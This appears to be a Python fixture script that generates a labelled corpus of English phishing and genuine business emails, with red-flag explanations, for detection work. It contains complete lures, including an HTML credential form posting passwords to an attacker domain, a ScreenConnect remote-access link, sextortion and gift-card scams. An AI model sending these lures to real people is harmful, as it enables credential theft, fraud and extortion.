"""English messages: attacks 09-16, business 09-16."""
from common import *  # noqa
from lib.ids import bech32_address

UK_CO = 'EXAMPLE GROUP UK LIMITED'
UK_NO = '13874512'
SIG_UK = ('{name}\n{role}\nExample Group UK Ltd | 3 Hardman Street | Manchester M3 3HF\nT +44 161 496 0{ext}\n'
          'Registered in England and Wales No. ' + UK_NO)

# ============================================================== ATTACKS

# ---- 09 DocuSign lure with HTML credential-form attachment from a compromised UK tenant
_html09 = '''<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>DocuSign | Secure Document Review</title>
<style>body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2}.hdr{background:#1e1e1e;color:#fff;padding:14px 24px;font-weight:600}
.card{width:380px;margin:60px auto;background:#fff;padding:36px 40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;padding:8px 0;border:0;border-bottom:1px solid #666;font-size:15px;margin:10px 0 18px}
button{background:#0067b8;color:#fff;border:0;padding:9px 30px;font-size:15px;float:right}</style></head>
<body><div class="hdr">DocuSign &nbsp;|&nbsp; Pitchside_Hospitality_Agreement_2027.pdf (3 pages)</div>
<div class="card"><img alt="Microsoft" width="108" height="24" src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg">
<h2 style="font-weight:600;font-size:24px;margin:16px 0 4px">Sign in to view document</h2>
<p style="font-size:13px;color:#444">This document is protected. Verify your identity with your work account to continue.</p>
<form method="post" action="https://docsign-review-portal.cfd/secure/auth.php">
<input type="hidden" name="doc" value="PTS-HOSP-2027-0419">
<input type="email" name="login" value="james.whitfield@example.com">
<input type="password" name="passwd" placeholder="Password">
<button type="submit">Sign in</button></form><div style="clear:both"></div></div></body></html>
'''

msg(file='09-en-docusign-html-attachment-agreement', kind='attack', lang='en', when='2026-10-27 15:22:48',
    route=I.m365, route_kw=dict(region='gb'),
    env_from='accounts@brightwell-plumbing.co.uk', rcpt='james.whitfield@example.com',
    headers=[('From', A('DocuSign via Pitchside Travel', 'accounts@brightwell-plumbing.co.uk')),
             ('To', to('uk_mgr')),
             ('Subject', 'Complete with DocuSign: Pitchside_Hospitality_Agreement_2027.pdf'),
             ('Thread-Topic', 'Complete with DocuSign: Pitchside_Hospitality_Agreement_2027.pdf'),
             ('Content-Language', 'en-GB')],
    body=lambda b: b.mixed(
        b.alt(b.text('Pitchside Travel sent you a document to review and sign.\n\nREVIEW DOCUMENT\n\nEmma Clarke\n'
                     'Please review the 2027 hospitality agreement (away-trip and matchday packages). The signed copy is needed '
                     'before the allocation deadline on Friday.\n\nThe document is attached as a secure DocuSign file. Open '
                     'the attachment in your browser and sign in to view.\n\nDo Not Share This Email\nThis email contains a secure '
                     'link to DocuSign. Please do not share this email, link, or access code with others.\n',
                     'us-ascii', '7bit'),
              b.html(notice_html('us-ascii', 'Pitchside Travel sent you a document to review and sign.', [
                  'Emma Clarke', 'Please review the 2027 hospitality agreement (away-trip and matchday packages). The signed copy '
                  'is needed before the allocation deadline on Friday.',
                  'The document is attached as a secure DocuSign file. Open the attachment in your browser and sign in to view.'],
                  brand='DocuSign', color='#d5ad36', lang='en',
                  footer='<b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share '
                         'this email, link, or access code with others.'), 'us-ascii', '7bit'), style='exo'),
        b.att(_html09.encode('utf-8'), 'text/html', 'Pitchside_Agreement_2027_DocuSign.html'), style='exo'),
    what='DocuSign-branded lure from a compromised UK plumbing firm\'s Microsoft 365 mailbox with an HTML attachment that is a '
         'Microsoft sign-in form.',
    why='DocuSign never sends documents as HTML attachments; the mail comes from brightwell-plumbing.co.uk, not docusign.net '
        'or Pitchside; the attachment pre-fills the recipient\'s address and posts the password to docsign-review-portal.cfd. '
        'Compare genuine DocuSign business/08.')

# ---- 10 Companies House look-alike via Mailgun
_ch_link = 'https://ewf.companieshouse-filings.uk/signin?company=' + UK_NO + '&ref=CS01-OD-7741'
msg(file='10-en-companies-house-confirmation-overdue', kind='attack', lang='en', when='2026-11-02 09:11:30',
    route=I.mailgun, route_kw=dict(domain='mg.companieshouse-filings.uk'),
    env_from='noreply@companieshouse-filings.uk', rcpt='sarah.oconnor@example.com',
    headers=[('From', A('Companies House', 'noreply@companieshouse-filings.uk')),
             ('To', A('', 'sarah.oconnor@example.com')),
             ('Subject', 'Confirmation statement overdue - ' + UK_CO + ' (' + UK_NO + ') - late filing penalty')],
    body=lambda b: b.alt(
        b.text('GOV.UK\n\nCompanies House\n\nCompany name: ' + UK_CO + '\nCompany number: ' + UK_NO + '\n\n'
               'Our records show that the confirmation statement for your company is overdue. Failure to file may result in a '
               'late filing penalty of GBP 1,500 and the registrar may take steps to strike the company off the register under '
               'section 1000 of the Companies Act 2006.\n\nTo avoid enforcement action, sign in to WebFiling and submit the '
               'statement within 48 hours:\n\n[[File confirmation statement now|' + _ch_link + ']]\n\n'
               'You will need your company authentication code and the email address and password of your Companies House '
               'account.\n\nCompanies House\nCrown Way, Cardiff, CF14 3UZ\n', 'us-ascii', '7bit'),
        b.html(notice_html('us-ascii', 'Confirmation statement overdue', [
            'Company name: ' + UK_CO, 'Company number: ' + UK_NO,
            'Our records show that the confirmation statement for your company is overdue. Failure to file may result in a late '
            'filing penalty of GBP 1,500 and the registrar may take steps to strike the company off the register under section '
            '1000 of the Companies Act 2006.',
            'To avoid enforcement action, sign in to WebFiling and submit the statement within 48 hours.',
            'You will need your company authentication code and the email address and password of your Companies House account.'],
            button=('File confirmation statement now', _ch_link), brand='GOV.UK', color='#00703c', lang='en',
            logo='<div style="background:#0b0c0c;color:#fff;font-weight:bold;font-size:22px;padding:10px 14px">GOV.UK</div>',
            footer='Companies House, Crown Way, Cardiff, CF14 3UZ'), 'us-ascii', 'quoted-printable'), style='py'),
    what='Credential/authentication-code phishing posing as Companies House: "confirmation statement overdue, penalty and strike-off".',
    why='Look-alike domain companieshouse-filings.uk sent via Mailgun (real notices come from GOV.UK Notify, business/16); '
        'invented penalty amount and 48-hour deadline; link asks for the company authentication code and account password '
        'on a non-gov.uk site; statement is in fact not yet due.')

# ---- 11 callback phishing (TOAD) - fake Microsoft renewal from Gmail
_toad_pdf = make_pdf([
    ('Microsoft 365 Business Premium', 15, True), 'Order Confirmation / Invoice', '---', '',
    'Invoice No.: MS-UK-77812                 Date: 19/11/2026', 'Customer: Example Group UK Ltd', '',
    'Product                                         Qty     Term        Amount',
    'Microsoft 365 Business Premium (annual)         15      12 months   GBP 1,041.66',
    'Microsoft Defender for Business add-on          15      12 months   GBP   208.33', '',
    'Total charged (incl. VAT)                                            GBP 1,249.99',
    'Payment method: Auto-renewal, card ending 4417', '',
    'If you did not authorise this renewal, call Billing Support within 24 hours to cancel and receive a refund:',
    ('+44 20 7946 0381', 14, True), '(Mon–Sun, 24/7, UK toll-free support line)'],
    title='Invoice MS-UK-77812', producer='Skia/PDF m131 Google Docs Renderer', date=pdfdate(2026, 11, 19, 8, 1, "+00'00'"))

msg(file='11-en-callback-toad-microsoft-renewal', kind='attack', lang='en', when='2026-11-19 08:14:22',
    route=I.gmail, env_from='billing.renewals.dept365@gmail.com', rcpt='sarah.oconnor@example.com',
    headers=[('From', A('Microsoft Billing Center', 'billing.renewals.dept365@gmail.com')),
             ('To', A('', 'sarah.oconnor@example.com')),
             ('Subject', 'Order confirmation: Microsoft 365 Business Premium - annual renewal (Invoice MS-UK-77812)')],
    body=lambda b: b.mixed(b.alt(
        b.text('Dear Customer,\n\nThank you for your order. Your subscription to Microsoft 365 Business Premium (15 licences) '
               'has been renewed automatically and GBP 1,249.99 has been charged to your card ending 4417.\n\n'
               'Order number: MS-UK-77812\nRenewal date: 19/11/2026\n\nIf you did not authorise this renewal or wish to change '
               'the number of licences, please contact our Billing Support team within 24 hours to cancel the order and receive '
               'a full refund: +44 20 7946 0381\n\nThe invoice is attached for your records.\n\nKind regards,\nMicrosoft Billing Center',
               'UTF-8', 'quoted-printable'),
        b.html('<div dir="ltr"><div>Dear Customer,</div><div><br></div><div>Thank you for your order. Your subscription to '
               '<b>Microsoft 365 Business Premium</b> (15 licences) has been renewed automatically and <b>GBP 1,249.99</b> has been '
               'charged to your card ending 4417.</div><div><br></div><div>Order number: MS-UK-77812<br>Renewal date: 19/11/2026</div>'
               '<div><br></div><div>If you did not authorise this renewal or wish to change the number of licences, please contact our '
               'Billing Support team within 24 hours to cancel the order and receive a full refund: <b>+44 20 7946 0381</b></div>'
               '<div><br></div><div>The invoice is attached for your records.</div><div><br></div><div>Kind regards,<br>Microsoft '
               'Billing Center</div></div>\n', 'UTF-8', 'quoted-printable'), style='gmail'),
        b.att(_toad_pdf, 'application/pdf', 'Invoice_MS-UK-77812.pdf'), style='gmail'),
    what='Callback phishing (TOAD): fake Microsoft 365 renewal "charge" with PDF invoice, urges a phone call to "cancel".',
    why='Microsoft billing sent from a Gmail address; no portal link, only a phone number (the call leads to remote-access '
        'or card fraud); amount and "card ending" invented; the company is billed by Microsoft through the admin centre '
        '(see genuine invoice business/12).')

# ---- 12 FIFA Clearing House look-alike via SendGrid


def _body12(b, c, r):
    link = I.sg_link(c, 'x')
    t = ('FIFA Clearing House\n\nTraining reward allocation FCH-2026-44871\n\nDear Member Club,\n\n'
         'Following the international transfer of a player registered with your club between the seasons 2015/16 and '
         '2021/22, a training compensation and solidarity contribution of EUR 412,380.00 has been allocated to '
         'FC Example 1904 as Training Club.\n\nBefore the amount can be released, FIFA regulations require the Training Club to '
         'confirm its beneficiary bank account in the FCH Portal. Allocations that are not confirmed within 5 business days '
         'are returned to the paying club.\n\nConfirm beneficiary details: ' + link + '\n\n'
         'Please ensure that the confirmation is carried out by the authorised signatory of the club (sporting director or '
         'finance).\n\nKind regards\nFIFA Clearing House\n')
    h = notice_html('utf-8', 'Training reward allocation FCH-2026-44871', [
        'Dear Member Club,',
        'Following the international transfer of a player registered with your club between the seasons 2015/16 and 2021/22, '
        'a training compensation and solidarity contribution of EUR 412,380.00 has been allocated to FC Example 1904 as Training Club.',
        'Before the amount can be released, FIFA regulations require the Training Club to confirm its beneficiary bank account '
        'in the FCH Portal. Allocations that are not confirmed within 5 business days are returned to the paying club.',
        'Please ensure that the confirmation is carried out by the authorised signatory of the club (sporting director or finance).'],
        button=('Confirm beneficiary details', link), brand='FIFA Clearing House', color='#326295', lang='en',
        footer='FIFA Clearing House · This is an automated notification. Please do not reply.')
    h = h.replace('</body>', '<img src="https://u%d.ct.sendgrid.net/wf/open?upn=u001.%s" alt="" width="1" height="1"></body>'
                  % (c.num(10 ** 6, 10 ** 7), c.b64url(80)))
    return b.alt(b.text(t, 'utf-8', 'quoted-printable'), b.html(h, 'utf-8', 'quoted-printable'), style='sg')


msg(file='12-en-fifa-clearing-house-beneficiary', kind='attack', lang='en', when='2026-11-11 13:40:05',
    route=I.sendgrid, route_kw=dict(em_domain='em3318.fch-fifa-payments.com'),
    env_from='no-reply@fch-fifa-payments.com', rcpt='uwe.hartmann@example.com',
    headers=[('From', A('FIFA Clearing House', 'no-reply@fch-fifa-payments.com')),
             ('To', A('', 'uwe.hartmann@example.com')),
             ('Subject', '[FCH] Training reward allocation FCH-2026-44871 - beneficiary verification required')],
    body=_body12,
    what='Trade-specific credential/bank-detail phishing: fake FIFA Clearing House "training reward" of EUR 412k needs beneficiary confirmation.',
    why='Sender domain fch-fifa-payments.com is not FIFA; bulk-sent through SendGrid with a click-tracking redirect hiding the '
        'target; money bait plus 5-day deadline; asks the sporting director to "confirm" bank data/credentials in a portal '
        'reached by an e-mail link.')

# ---- 13 device-code phishing via fake Teams data-room invitation
msg(file='13-en-device-code-teams-data-room', kind='attack', lang='en', when='2026-11-24 17:05:44',
    route=I.m365, route_kw=dict(region='gb'),
    env_from='o.grant@northbridge-sportscapital.com', rcpt='matthias.koehler@example.com',
    headers=[('From', A('Oliver Grant', 'o.grant@northbridge-sportscapital.com')),
             ('To', to('ceo', 'utf-8', 'B')),
             ('CC', to('assist', 'utf-8', 'B')),
             ('Subject', 'Northbridge / Example Group - board pack and secure Teams data room'),
             ('Thread-Topic', 'Northbridge / Example Group - board pack and secure Teams data room'),
             ('Content-Language', 'en-GB')],
    body=lambda b: b.client(
        'Dear Dr Köhler,\n\n'
        'Thank you again for the constructive conversation in Munich last week. As discussed, our investment committee would '
        'like to review the updated board pack on the minority stake ahead of Thursday.\n\n'
        'For confidentiality reasons the documents are only available in our secure Microsoft Teams data room. To connect your '
        'Example Group account to the room, please:\n\n'
        '1. Go to https://microsoft.com/devicelogin\n'
        '2. Enter the access code: GH7KQ2LMW\n'
        '3. Sign in with your usual Microsoft 365 work account and confirm.\n\n'
        'The code is valid for 15 minutes; if it expires, just reply and I will issue a new one. Katharina, please feel free '
        'to do this on Dr Köhler\'s behalf if easier.\n\n'
        'Kind regards,\nOliver Grant\nPartner | Northbridge Sports Capital LLP\n25 Old Broad Street, London EC2N 1HQ',
        'outlook', 'utf-8', 'quoted-printable', bstyle='exo', lang='EN-GB'),
    what='Device-code phishing: an "investor" invites the CEO to a Teams data room and asks him (or his assistant) to enter a code at microsoft.com/devicelogin.',
    why='The link is Microsoft\'s genuine device-login page, but entering an attacker-generated code signs the attacker\'s '
        'session in with the victim\'s account (OAuth device-code flow abuse, Storm-2372 style); Teams rooms never require '
        'device codes; unsolicited investor domain on a Microsoft 365 tenant; pressure of 15-minute validity and delegation '
        'to the assistant.')

# ---- 14 extortion with Bitcoin
_btc = bech32_address('audit105-extortion-14')
msg(file='14-en-extortion-bitcoin-spoofed-self', kind='attack', lang='en', when='2026-12-08 03:17:09', zone='ict',
    route=I.direct, route_kw=dict(helo='static.vnpt.vn', rdns='static.vnpt.vn', ip='113.161.64.17',
                                  msgid='<4f2b91c07e3a51d8a1c6e09b22f74d15@example.com>', zone='ict'),
    env_from='james.whitfield@example.com', rcpt='james.whitfield@example.com',
    headers=[('From', A('', 'james.whitfield@example.com')),
             ('To', A('', 'james.whitfield@example.com')),
             ('Subject', 'Your account james.whitfield@example.com has been compromised. Change your password!')],
    tail_headers=[('X-Mailer', 'Microsoft Outlook Express 6.00.2900.5512')],
    body=lambda b: b.text(
        'Hello!\n\nAs you may have noticed, I sent you this email from your own account. This means I have full access to '
        'your device.\n\nI have been watching you for a few months now. You were infected with malware through an adult website '
        'you visited. While you were watching videos, your webcam and screen were recorded. I also copied your contacts, '
        'messenger conversations and e-mails, including those with your colleagues and clients.\n\n'
        'I can send this video to everyone in your address book with one click.\n\n'
        'If you want to prevent this, transfer USD 1450 to my Bitcoin wallet:\n\n' + _btc + '\n\n'
        '(If you do not know how, search "buy bitcoin" on Google.)\n\n'
        'You have 48 hours from the moment you open this e-mail. I receive a notification when you read it. After payment, '
        'I will delete everything and you will never hear from me again. Do not reply to this message and do not go to the '
        'police - I will know.\n', 'utf-8', '8bit'),
    what='Extortion ("sextortion") claiming device compromise, demanding USD 1,450 in Bitcoin.',
    why='From: spoofed to the recipient\'s own address but injected directly by a Vietnamese DSL host without TLS, not via the '
        'internal relay; classic extortion script with 48-hour deadline and a bech32 Bitcoin address.')

# ---- 15 IT help-desk pretext for Teams call + remote access
_sc = 'https://exgroup-helpdesk.screenconnect.com/Bin/ScreenConnect.ClientSetup.exe?e=Access&y=Guest&h=instance-h7v2lq-relay.screenconnect.com&p=443&k=BgIAAACkAABSU0ExAAgAAAEAAQ'
msg(file='15-en-helpdesk-teams-vishing-remote-access', kind='attack', lang='en', when='2026-12-03 08:26:51',
    route=I.postfix_company, route_kw=dict(mailhost='mail.examplegroup-support.com', ip='88.198.37.142',
                                           rdns='static.142.37.198.88.clients.your-server.de', msgid_style='thunderbird',
                                           helo='mail.examplegroup-support.com',
                                           mailer=[('User-Agent', 'Mozilla Thunderbird')]),
    env_from='servicedesk@examplegroup-support.com', rcpt='sarah.oconnor@example.com',
    headers=[('From', A('Example Group IT Service Desk', 'servicedesk@examplegroup-support.com')),
             ('To', A("Sarah O'Connor", 'sarah.oconnor@example.com')),
             ('Subject', 'INC0048817 - spam flood on your mailbox - remediation call today'),
             ('Content-Language', 'en-GB')],
    body=lambda b: b.text(
        'Hi Sarah,\n\nOur monitoring flagged a spam-bombing attack against your mailbox overnight (approx. 3,200 newsletter '
        'sign-up mails). We are rolling out an updated filter to affected users today.\n\n'
        'One of our engineers will reach out to you on Microsoft Teams this morning from the account "Help Desk - Example '
        'Group" to apply the fix. It takes about 10 minutes. Please accept the chat request and, when asked, join the secure '
        'support session via the link below so that the engineer can configure Outlook on your laptop:\n\n'
        + _sc + '\n\nIf you receive the security prompt "Do you want to allow this app to make changes", select Yes.\n\n'
        'Ticket: INC0048817\nPriority: High\n\nThanks,\nIT Service Desk\nExample Group', 'utf-8', '7bit', fmt='format=flowed'),
    what='Help-desk pretext (Black Basta style): announces a Teams call from "Help Desk" about a spam flood and asks the user '
         'to join a ScreenConnect remote session.',
    why='Look-alike domain examplegroup-support.com on a Hetzner server; the real IT never asks users to install remote '
        'tools via e-mail; abuses a genuine remote-access service (ScreenConnect client download with attacker\'s relay); '
        'primes the victim to accept an external Teams chat and UAC prompt.')

# ---- 16 gift-card scam from Gmail impersonating the UK office manager
msg(file='16-en-gift-cards-manager-gmail', kind='attack', lang='en', when='2026-12-10 11:52:03',
    route=I.gmail, env_from='james.whitfield.exgroup@gmail.com', rcpt='sarah.oconnor@example.com',
    headers=[('From', A('James Whitfield', 'james.whitfield.exgroup@gmail.com')),
             ('To', A('Sarah', 'sarah.oconnor@example.com')),
             ('Subject', 'Quick favour')],
    body=lambda b: b.alt(
        b.text('Hi Sarah,\n\nAre you at your desk? I need a quick favour. I want to surprise the matchday stewards and the '
               'kiosk team with a small thank-you before Christmas and I need you to pick up 10 Amazon gift cards at GBP 100 each. '
               'Keep it between us for now, it\'s meant to be a surprise.\n\nI\'m stuck in back-to-back meetings and can\'t take '
               'calls. Once you have them, scratch off the back and send me clear photos of the codes here. I\'ll sort the '
               'expense claim with you tomorrow.\n\nThanks\nJames\n\nSent from my iPhone', 'UTF-8', 'quoted-printable'),
        b.html('<div dir="auto">Hi Sarah,<div dir="auto"><br></div><div dir="auto">Are you at your desk? I need a quick favour. '
               'I want to surprise the matchday stewards and the kiosk team with a small thank-you before Christmas and I need you '
               'to pick up 10 Amazon gift cards at GBP 100 each. Keep it between us for now, it\'s meant to be a surprise.</div>'
               '<div dir="auto"><br></div><div dir="auto">I\'m stuck in back-to-back meetings and can\'t take calls. Once you have '
               'them, scratch off the back and send me clear photos of the codes here. I\'ll sort the expense claim with you '
               'tomorrow.</div><div dir="auto"><br></div><div dir="auto">Thanks</div><div dir="auto">James</div><div dir="auto">'
               '<br></div><div dir="auto">Sent from my iPhone</div></div>\n', 'UTF-8', 'quoted-printable'), style='gmail'),
    what='Gift-card scam: "office manager" on Gmail asks the UK accountant to buy GBP 1,000 of Amazon gift cards and send the codes.',
    why='Impersonation of James Whitfield from an unrelated Gmail address, secrecy ("keep it between us"), unavailability for '
        'calls, request to send scratched-off codes by e-mail – classic gift-card fraud.')

# ============================================================== BUSINESS


def _body_ms_signin(b, c, r):
    t = ('Microsoft account\n\nUnusual sign-in activity\n\nWe detected something unusual about a recent sign-in to the '
         'Microsoft account le*****@example.com.\n\nSign-in details\n\nCountry/region: Germany\nIP address: 91.64.183.27\n'
         'Date: 09/11/2026 19:42 (CET)\nPlatform: Windows\nBrowser: Edge\n\n'
         'Please go to your recent activity page to let us know whether or not this was you. If this wasn\'t you, we\'ll help '
         'you secure your account. If this was you, we\'ll trust similar activity in the future.\n\n'
         'Review recent activity ( https://account.live.com/Activity )\n\nTo opt out or change where you receive security '
         'notifications, click here ( https://account.live.com/SecurityNotifications/Update ).\n\nThanks,\n'
         'The Microsoft account team\n\nPrivacy Statement ( https://go.microsoft.com/fwlink/?LinkId=521839 )\n'
         'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052\n')
    h = notice_html('utf-8', 'Unusual sign-in activity', [
        'We detected something unusual about a recent sign-in to the Microsoft account le*****@example.com.',
        'Country/region: Germany<br>IP address: 91.64.183.27<br>Date: 09/11/2026 19:42 (CET)<br>Platform: Windows<br>Browser: Edge'
        .replace('<br>', ' · '),
        'Please go to your recent activity page to let us know whether or not this was you. If this wasn\'t you, we\'ll help you '
        'secure your account. If this was you, we\'ll trust similar activity in the future.'],
        button=('Review recent activity', 'https://account.live.com/Activity'), brand='Microsoft account', color='#0067b8',
        lang='en', footer='To opt out or change where you receive security notifications, <a href="https://account.live.com/'
                          'SecurityNotifications/Update">click here</a>.<br>Thanks,<br>The Microsoft account team<br><br>'
                          '<a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a><br>Microsoft Corporation, '
                          'One Microsoft Way, Redmond, WA 98052')
    return b.alt(b.text(t, 'utf-8', 'quoted-printable'), b.html(h, 'utf-8', 'quoted-printable'), style='ms')


msg(file='09-en-microsoft-account-unusual-signin', kind='business', lang='en', when='2026-11-09 18:43:10', zone='utc',
    route=I.microsoft_notify, env_from='account-security-noreply@accountprotection.microsoft.com', rcpt='lena.vogt@example.com',
    headers=[('From', A('Microsoft account team', 'account-security-noreply@accountprotection.microsoft.com')),
             ('To', A('', 'lena.vogt@example.com')),
             ('Subject', 'Microsoft account unusual sign-in activity'),
             ('X-Priority', '3')],
    body=_body_ms_signin,
    what='Genuine Microsoft account "unusual sign-in activity" notice for the admin\'s Microsoft account.',
    why='From accountprotection.microsoft.com via Microsoft\'s outbound infrastructure, masked account name, concrete sign-in '
        'details, links only to account.live.com / go.microsoft.com, no urgency or attachment.',
    pair=[13, 30], pair_note='Microsoft security notification; same brand and "sign-in" topic as device-code and quarantine phishing.')


def _body_gh(b, c, r):
    tok = c.alnum(40, 'abcdefghijklmnopqrstuvwxyz0123456789')
    url = 'https://github.com/password_reset/' + tok
    t = ('We heard that you lost your GitHub password. Sorry about that!\n\nBut don\'t worry! You can use the following button '
         'to reset your password:\n\n' + url + '\n\nIf you don\'t use this link within 3 hours, it will expire. To get a new '
         'password reset link, visit: https://github.com/password_reset\n\nThanks,\nThe GitHub Team\n')
    h = notice_html('utf-8', 'Reset your GitHub password', [
        'We heard that you lost your GitHub password. Sorry about that!',
        'But don\'t worry! You can use the following button to reset your password:'],
        button=('Reset your password', url), brand='GitHub', color='#1f883d', lang='en',
        extra_after='<p style="font-size:14px;color:#323130">If you don\'t use this link within 3 hours, it will expire. To get a new '
                    'password reset link, visit: <a href="https://github.com/password_reset">https://github.com/password_reset</a></p>'
                    '<p style="font-size:14px">Thanks,<br>The GitHub Team</p>',
        footer='You\'re receiving this email because a password reset was requested for your account.<br>'
               'GitHub, Inc. ・88 Colin P Kelly Jr Street ・San Francisco, CA 94107')
    return b.alt(b.text(t, 'utf-8', '7bit'), b.html(h, 'utf-8', 'quoted-printable'), style='py')


msg(file='10-en-github-password-reset', kind='business', lang='en', when='2026-11-06 14:02:37',
    route=I.github, env_from='noreply@github.com', rcpt='thomas.brueckner@example.com',
    return_path='noreply@github.com',
    headers=[('From', A('GitHub', 'noreply@github.com')),
             ('To', A('', 'thomas.brueckner@example.com')),
             ('Subject', '[GitHub] Please reset your password'),
             ('X-Auto-Response-Suppress', 'All')],
    body=_body_gh,
    what='Genuine GitHub password-reset mail requested by the head of IT.',
    why='GitHub\'s own SMTP (out-*.smtp.github.com, 192.30.252.0/22), links only to github.com, standard wording with '
        '3-hour expiry; no pressure beyond that.')


def _body_google(b, c, r):
    acc = 'niklas.krueger@examplegroup.eu'
    url = 'https://accounts.google.com/AccountChooser?Email=niklas.krueger@examplegroup.eu&continue=https://myaccount.google.com/alert/nt/%d?rfn%%3D31%%26rfnc%%3D1%%26eid%%3D%s' % (c.epoch() * 1000, c.num(10 ** 18, 10 ** 19))
    t = ('A new sign-in on Mac\n\n' + acc + '\nWe noticed a new sign-in to your Google Account on a Mac device. If this was you, '
         'you don\'t need to do anything. If not, we\'ll help you secure your account.\nCheck activity\n<' + url + '>\n'
         'You can also see security activity at\nhttps://myaccount.google.com/notifications\n'
         'You received this email to let you know about important changes to your Google Account and services.\n'
         '© 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\n')
    h = notice_html('UTF-8', 'A new sign-in on Mac', [
        acc, 'We noticed a new sign-in to your Google Account on a Mac device. If this was you, you don\'t need to do anything. '
        'If not, we\'ll help you secure your account.'],
        button=('Check activity', url), brand='Google', color='#1a73e8', lang='en',
        extra_after='<p style="font-size:12px;color:#5f6368">You can also see security activity at<br>'
                    '<a href="https://myaccount.google.com/notifications">https://myaccount.google.com/notifications</a></p>',
        footer='You received this email to let you know about important changes to your Google Account and services.<br>'
               '© 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA')
    return b.alt(b.text(t, 'UTF-8', 'quoted-printable'), b.html(h, 'UTF-8', 'quoted-printable'), style='gmail')


msg(file='11-en-google-security-alert-new-signin', kind='business', lang='en', when='2026-10-29 09:31:48', zone='utc',
    route=I.google_notify, env_from='no-reply@accounts.google.com', rcpt='niklas.krueger@examplegroup.eu',
    headers=[('From', A('Google', 'no-reply@accounts.google.com')),
             ('To', A('', 'niklas.krueger@examplegroup.eu')),
             ('Subject', 'Security alert')],
    body=_body_google,
    what='Genuine Google security alert (new sign-in on Mac) for the Google account used for Merchant Center/Ads.',
    why='Google\'s notification infrastructure (mail-sor-*.google.com, 209.85.220.0/24) with Google-style Message-ID, links '
        'only to accounts.google.com / myaccount.google.com, informational.',
    pair=[40], pair_note='Provider sign-in alert, like the fake Yandex ID alert.')


_ms_inv = make_pdf([
    ('Microsoft', 16, True), 'Invoice', '---', '',
    'Sold to: Example Group UK Ltd, 3 Hardman Street, Manchester M3 3HF, United Kingdom',
    'Billing account: Example Group UK Ltd', '',
    'Invoice number: G052148779          Invoice date: 01/12/2026          Due date: 31/12/2026', '',
    'Product                                           Qty   Period                    Amount',
    'Microsoft 365 Business Premium                    15    01/12/2026 - 31/12/2026   GBP 989.00',
    '                                                  VAT 20 %                         GBP 197.80',
    '                                                  Total amount due                 GBP 1,186.80', '',
    'Payment: Direct Debit. No action is required.',
    'Microsoft Ireland Operations Ltd, One Microsoft Place, South County Business Park, Leopardstown, Dublin 18, Ireland'],
    title='Invoice G052148779', producer='Microsoft Billing', date=pdfdate(2026, 12, 1, 4, 10, "+00'00'"))

msg(file='12-en-microsoft-365-invoice', kind='business', lang='en', when='2026-12-01 04:22:19', zone='utc',
    route=I.microsoft_notify, env_from='microsoft-noreply@microsoft.com', rcpt='sarah.oconnor@example.com',
    headers=[('From', A('Microsoft', 'microsoft-noreply@microsoft.com')),
             ('To', A('', 'sarah.oconnor@example.com')),
             ('Subject', 'Your Microsoft invoice G052148779 is ready')],
    body=lambda b: b.mixed(b.alt(
        b.text('Microsoft\n\nYour invoice is ready\n\nBilling account: Example Group UK Ltd\nInvoice number: G052148779\n'
               'Invoice date: 01/12/2026\nAmount due: GBP 1,186.80\nDue date: 31/12/2026\nPayment method: Direct Debit\n\n'
               'Your invoice is attached. You can also view and download your invoices in the Microsoft 365 admin center:\n'
               'https://admin.microsoft.com/Adminportal/Home#/BillingAccounts/Invoices\n\nThis is a mandatory service communication.\n'
               'Microsoft Ireland Operations Ltd, One Microsoft Place, South County Business Park, Leopardstown, Dublin 18, Ireland\n'
               'Privacy Statement: https://go.microsoft.com/fwlink/?LinkId=521839\n', 'utf-8', 'quoted-printable'),
        b.html(notice_html('utf-8', 'Your invoice is ready', [
            'Billing account: Example Group UK Ltd', 'Invoice number: G052148779 · Invoice date: 01/12/2026',
            'Amount due: GBP 1,186.80 · Due date: 31/12/2026 · Payment method: Direct Debit',
            'Your invoice is attached. You can also view and download your invoices in the Microsoft 365 admin center.'],
            button=('View invoice', 'https://admin.microsoft.com/Adminportal/Home#/BillingAccounts/Invoices'),
            brand='Microsoft', color='#0067b8', lang='en',
            footer='This is a mandatory service communication.<br>Microsoft Ireland Operations Ltd, One Microsoft Place, South '
                   'County Business Park, Leopardstown, Dublin 18, Ireland<br><a href="https://go.microsoft.com/fwlink/?LinkId=521839">'
                   'Privacy Statement</a>'), 'utf-8', 'quoted-printable'), style='ms'),
        b.att(_ms_inv, 'application/pdf', 'G052148779.pdf'), style='ms'),
    what='Genuine Microsoft 365 monthly invoice notification with PDF.',
    why='microsoft-noreply@microsoft.com via Microsoft\'s outbound protection, links only to admin.microsoft.com, Direct Debit '
        '("no action required"), amount matches the tenant\'s licences; no phone number.',
    pair=[11], pair_note='Microsoft 365 subscription invoice, the very topic of the callback (TOAD) attack.')

_fl_inv = make_pdf([
    ('Northern Floodlight Systems Ltd', 15, True), 'Unit 7, Lostock Industrial Estate, Bolton BL6 4SG · VAT GB 318 4472 09', '---', '',
    'Invoice to: Example Group UK Ltd (for Example Arena, Düsseldorf)', 'Accounts Payable, 3 Hardman Street, Manchester M3 3HF', '',
    ('INVOICE NFS-26-1184', 13, True), 'Date: 12/11/2026    PO: UK-PO-2026-0371    Terms: 30 days', '',
    'Description                                                   Qty     Unit        Total',
    'Scheduled LED floodlight maintenance, East & West stands      1      4,850.00    4,850.00',
    'Replacement LED driver module LDM-1200                        6        312.50    1,875.00',
    'Lux survey and UEFA Category 4 compliance report              1        950.00      950.00', '',
    '                                                      Net                      GBP 7,675.00',
    '                                                      VAT (reverse charge)     GBP     0.00',
    '                                                      Total                    GBP 7,675.00', '',
    'Payment: NatWest, sort code 01-10-30, account 44017835',
    'IBAN ' + fmt_iban(BANK['floodlight']) + '   BIC NWBKGB2L'],
    title='Invoice NFS-26-1184', producer='Xero', date=pdfdate(2026, 11, 12, 10, 2, "+00'00'"))

msg(file='13-en-northern-floodlight-invoice', kind='business', lang='en', when='2026-11-12 10:05:52',
    route=I.m365, route_kw=dict(region='gb'),
